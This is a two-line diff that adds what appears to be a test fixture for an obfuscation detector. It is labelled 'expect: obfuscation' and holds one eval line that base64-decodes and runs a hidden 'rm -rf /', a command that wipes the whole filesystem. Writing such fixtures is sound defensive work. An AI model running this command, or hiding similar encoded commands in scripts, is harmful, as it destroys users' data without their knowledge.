@@ -1,0 +1,2 @@
+# expect: obfuscation
+eval "$(echo cm0gLXJmIC8= | base64 --decode)"
